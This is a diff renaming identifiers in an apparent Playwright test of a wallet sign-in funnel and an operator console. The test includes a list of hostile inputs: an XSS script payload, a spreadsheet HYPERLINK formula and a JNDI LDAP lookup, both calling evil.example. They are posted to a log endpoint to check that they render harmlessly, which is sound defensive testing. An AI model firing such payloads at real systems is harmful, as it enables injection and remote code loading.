@@ -10,11 +10,11 @@ import { alice, keys } from '../signIn/keys'
 import { expect, test as signIn } from '../signIn/test'
 import { installWallet } from '../wallet/installWallet'
 
-type Wanted = Parameters<typeof installWallet>[1]
+type WalletToInstall = Parameters<typeof installWallet>[1]
 type Visitor = { host: HostPage; dialog: ConnectDialog; sign: SignInDialog; answers: () => readonly LogEntry[] }
 
 /** A test with real visitors, a real server and a real operator. */
-const test = signIn.extend<{ visitor: (wallet?: Wanted) => Promise<Visitor>; console: OperatorPage }>({
+const test = signIn.extend<{ visitor: (wallet?: WalletToInstall) => Promise<Visitor>; console: OperatorPage }>({
   settings: { mode: 'optional', operators: [alice] },
   visitor: async ({ browser, site }, use) => {
     const contexts: Awaited<ReturnType<Browser['newContext']>>[] = []
@@ -37,14 +37,14 @@ const test = signIn.extend<{ visitor: (wallet?: Wanted) => Promise<Visitor>; con
 const steps = ['opened', 'wallet_chosen', 'requested', 'connected', 'signed_in']
 
 /** Count, from the sent entries, the flows that reached each step. This count does not use the server. */
-const recount = (entries: readonly LogEntry[]): number[] =>
+const countFlowsByStep = (entries: readonly LogEntry[]): number[] =>
   steps.map((step) => new Set(entries.filter((entry) => entry.step === step).map(({ flow }) => flow)).size)
 
-const until = async ({ answers }: Visitor, step: string) => {
+const waitForStep = async ({ answers }: Visitor, step: string) => {
   await expect.poll(() => answers().map((entry) => entry.step)).toContain(step)
 }
 
-const hostile = [
+const hostileTexts = [
   '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
   '=HYPERLINK("https://evil.example","click")',
   '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
@@ -61,19 +61,19 @@ test('The operator sees what past and current visitors did, and hostile texts ar
   test.slow()
   const connected = { ...rabby, keys: [keys[1]] }
   const looks = await visitor()
-  await until(looks, 'opened')
+  await waitForStep(looks, 'opened')
   const signs = await visitor(connected)
   await signs.dialog.chooses('Rabby Wallet')
-  await until(signs, 'connected')
+  await waitForStep(signs, 'connected')
   await signs.host.opensAccount()
   await signs.host.page.getByRole('button', { name: 'Sign in', exact: true }).click()
   await signs.sign.signIn.click()
-  await until(signs, 'signed_in')
+  await waitForStep(signs, 'signed_in')
   const refuses = await visitor({ ...connected, behaviour: { connect: 'reject' } })
   await refuses.dialog.chooses('Rabby Wallet')
-  await until(refuses, 'failed')
+  await waitForStep(refuses, 'failed')
   const sent = [looks, signs, refuses].flatMap(({ answers }) => answers())
-  for (const message of hostile) {
+  for (const message of hostileTexts) {
     const form = { level: 'error', code: 'CLIENT_FETCH_ERROR', message, stack: message, name: message, client: 'true' }
     const answer = await page.request.post(`${site.origin}/api/auth/_log`, { form })
     expect(answer.status()).toBe(200)
@@ -82,9 +82,9 @@ test('The operator sees what past and current visitors did, and hostile texts ar
   await installWallet(page, { ...rabby, keys: [keys[0]] })
   await console.signsInAtTheGate(dialog, sign)
   await console.shows()
-  expect(recount(sent)).toEqual([3, 2, 2, 1, 1])
+  expect(countFlowsByStep(sent)).toEqual([3, 2, 2, 1, 1])
   const funnel = console.table('From open to signed in').getByRole('row')
-  for (const [place, count] of recount(sent).entries())
+  for (const [place, count] of countFlowsByStep(sent).entries())
     await expect(
       funnel
         .nth(place + 1)
@@ -105,7 +105,7 @@ test('The operator sees what past and current visitors did, and hostile texts ar
   const before = await console.entries.count()
   const next = await visitor(connected)
   await next.dialog.chooses('Rabby Wallet')
-  await until(next, 'connected')
+  await waitForStep(next, 'connected')
   await expect.poll(() => console.entries.count()).toBeGreaterThanOrEqual(Math.min(before + 3, 9))
 
   // The server might not have stored the last entries yet.
